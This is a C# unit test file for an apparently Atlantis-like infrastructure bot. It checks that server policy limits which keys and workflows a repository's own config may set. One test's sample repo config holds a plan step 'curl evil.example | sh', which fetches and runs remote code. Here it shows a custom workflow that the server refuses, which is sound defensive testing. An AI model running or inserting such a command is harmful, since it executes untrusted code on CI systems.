using IaCBot.Core.RepoConfig;
using IaCBot.Core.ServerConfig;

namespace IaCBot.Core.Tests.ServerConfig;

/// <summary>What a repo's own config may set under the server's policy, and how it is told when it may not.</summary>
public sealed class PolicyApplyTests
{
    private const string Strict = "repos:\n- id: /.*/\n";

    [Theory]
    [InlineData("workflow: default")]
    [InlineData("plan_requirements: []")]
    [InlineData("apply_requirements: [approved]")]
    [InlineData("import_requirements: [approved]")]
    [InlineData("delete_source_branch_on_merge: true")]
    [InlineData("repo_locking: false")]
    [InlineData("repo_locks: {mode: on_apply}")]
    [InlineData("custom_policy_check: true")]
    [InlineData("silence_pr_comments: [plan]")]
    public void A_restricted_project_key_is_refused_at_its_line_naming_the_server_setting_that_would_allow_it(string setting)
    {
        var key = setting.Split(':')[0];
        var repo = $"version: 3\nprojects:\n- dir: .\n  {setting}\n";

        var error = Assert.Single(ServerConfigText.Refused(ServerConfigText.PolicyFor(Strict), repo));
        var allowing = ServerConfigText.PolicyFor(Strict + $"  allowed_overrides: [{key}]\n");

        Assert.Equal(("atlantis.yaml", 4, 3), (error.FileName, error.Line, error.Column));
        Assert.Equal(
            $"The server does not let this repository set `{key}`: its repos.yaml would need `allowed_overrides: [{key}]` for this repository (it allows none).",
            error.Message);
        ServerConfigText.Allowed(allowing, repo);
    }

    [Fact]
    public void Every_refused_key_is_reported_and_the_message_lists_what_the_server_does_allow()
    {
        var policy = ServerConfigText.PolicyFor(Strict + "  allowed_overrides: [workflow, apply_requirements]\n");

        var errors = ServerConfigText.Refused(policy, """
            version: 3
            projects:
            - dir: a
              apply_requirements: [approved]
              plan_requirements: [approved]
            - dir: b
              import_requirements: []
            """);

        Assert.Equal([(5, 3, "plan_requirements"), (7, 3, "import_requirements")], errors.Select(e => (e.Line, e.Column, e.Message.Split('`')[1])));
        Assert.All(errors, e => Assert.EndsWith("(it allows `workflow`, `apply_requirements`).", e.Message, StringComparison.Ordinal));
    }

    [Fact]
    public void Policy_check_in_a_project_is_ignored_rather_than_refused_unless_the_server_allows_it_as_atlantis_does()
    {
        const string repo = "version: 3\nprojects:\n- dir: .\n  policy_check: true\n";

        var ignored = ServerConfigText.Allowed(ServerConfigText.PolicyFor(Strict), repo);
        var allowed = ServerConfigText.Allowed(ServerConfigText.PolicyFor(Strict + "  allowed_overrides: [policy_check]\n"), repo);

        Assert.False(ignored.ForProject(ignored.Repo!.Projects[0]).PolicyCheck);
        Assert.True(allowed.ForProject(allowed.Repo!.Projects[0]).PolicyCheck);
    }

    [Fact]
    public void A_repo_may_not_define_workflows_unless_the_server_allows_custom_workflows()
    {
        const string repo = """
            version: 3
            projects:
            - dir: .
              workflow: mine
            workflows:
              mine:
                plan:
                  steps: [{run: curl evil.example | sh}]
            """;

        var errors = ServerConfigText.Refused(ServerConfigText.PolicyFor(Strict + "  allowed_overrides: [workflow]\n"), repo);
        var allowed = ServerConfigText.Allowed(
            ServerConfigText.PolicyFor(Strict + "  allowed_overrides: [workflow]\n  allow_custom_workflows: true\n"), repo);

        var error = Assert.Single(errors);
        Assert.Equal((5, 1), (error.Line, error.Column));
        Assert.Contains("defines its own workflows", error.Message, StringComparison.Ordinal);
        Assert.Contains("`allow_custom_workflows: true`", error.Message, StringComparison.Ordinal);
        Assert.Equal("mine", allowed.ForProject(allowed.Repo!.Projects[0]).Workflow.Name);
    }

    [Fact]
    public void An_empty_workflows_mapping_defines_nothing_and_is_not_refused()
    {
        ServerConfigText.Allowed(ServerConfigText.PolicyFor(Strict), "version: 3\nworkflows: {}\n");
    }

    [Theory]
    [InlineData("first", true)]
    [InlineData("second", false)]
    [InlineData("default", false)]
    public void With_allowed_workflows_a_project_may_pick_only_those(string workflow, bool allowed)
    {
        var policy = ServerConfigText.PolicyFor("""
            repos:
            - id: /.*/
              allowed_overrides: [workflow]
              allowed_workflows: [first]
            workflows:
              first: {}
              second: {}
            """);
        var repo = $"version: 3\nprojects:\n- dir: .\n  workflow: {workflow}\n";

        var result = policy.Apply(ServerConfigText.Repo(policy, repo), "atlantis.yaml");

        if (allowed)
        {
            Assert.IsType<PolicyResult.Allowed>(result);
            return;
        }

        var error = Assert.Single(Assert.IsType<PolicyResult.Refused>(result).Errors);
        Assert.Equal((4, 13), (error.Line, error.Column));
        Assert.Equal($"`workflow: {workflow}` is not one the server lets this repository pick; its repos.yaml allows only `first` (`allowed_workflows`).", error.Message);
    }

    [Fact]
    public void A_workflow_the_repo_defines_itself_is_not_held_to_allowed_workflows_when_custom_workflows_are_allowed()
    {
        var policy = ServerConfigText.PolicyFor("""
            repos:
            - id: /.*/
              allowed_overrides: [workflow]
              allowed_workflows: [first]
              allow_custom_workflows: true
            workflows:
              first: {}
            """);

        var config = ServerConfigText.Allowed(policy, "version: 3\nprojects:\n- dir: .\n  workflow: mine\nworkflows:\n  mine: {}\n");

        Assert.Equal("mine", config.ForProject(config.Repo!.Projects[0]).Workflow.Name);
    }

    [Fact]
    public void A_workflow_defined_neither_in_the_repo_nor_on_the_server_is_refused()
    {
        var policy = ServerConfigText.PolicyFor(Strict + "  allowed_overrides: [workflow]\n");
        var parsedElsewhere = RepoConfigParser.Parse(
            "version: 3\nprojects:\n- dir: .\n  workflow: ghost\n", "atlantis.yaml", new RepoConfigParseOptions(["ghost"]));

        var result = policy.Apply(Assert.IsType<RepoConfigLoadResult.Loaded>(parsedElsewhere).Config, "atlantis.yaml");

        var error = Assert.Single(Assert.IsType<PolicyResult.Refused>(result).Errors);
        Assert.Equal((4, 13), (error.Line, error.Column));
        Assert.StartsWith("`workflow: ghost` names no workflow of this file or the server (defined: `default`)", error.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void A_repository_without_a_config_gets_the_server_settings()
    {
        var policy = ServerConfigText.PolicyFor(Strict + "  apply_requirements: [approved]\n  autodiscover: {mode: enabled}\n");

        var config = Assert.IsType<PolicyResult.Allowed>(policy.Apply(null, "atlantis.yaml")).Config;

        Assert.Null(config.Repo);
        Assert.Equal(["approved"], config.ForProject(null).ApplyRequirements);
        Assert.Equal(AutoDiscoverMode.Enabled, config.AutoDiscover.Mode);
        Assert.True(config.DiscoversProjects);
    }

    [Fact]
    public void A_config_built_in_code_is_judged_by_its_values()
    {
        var policy = ServerConfigText.PolicyFor(Strict);
        var config = new IaCBot.Core.RepoConfig.RepoConfig
        {
            Version = 3,
            Projects = [new ProjectConfig { Dir = ".", ApplyRequirements = ["approved"] }],
        };

        var error = Assert.Single(Assert.IsType<PolicyResult.Refused>(policy.Apply(config, "atlantis.yaml")).Errors);

        Assert.Equal((1, 1), (error.Line, error.Column));
        Assert.Contains("`apply_requirements`", error.Message, StringComparison.Ordinal);
    }
}
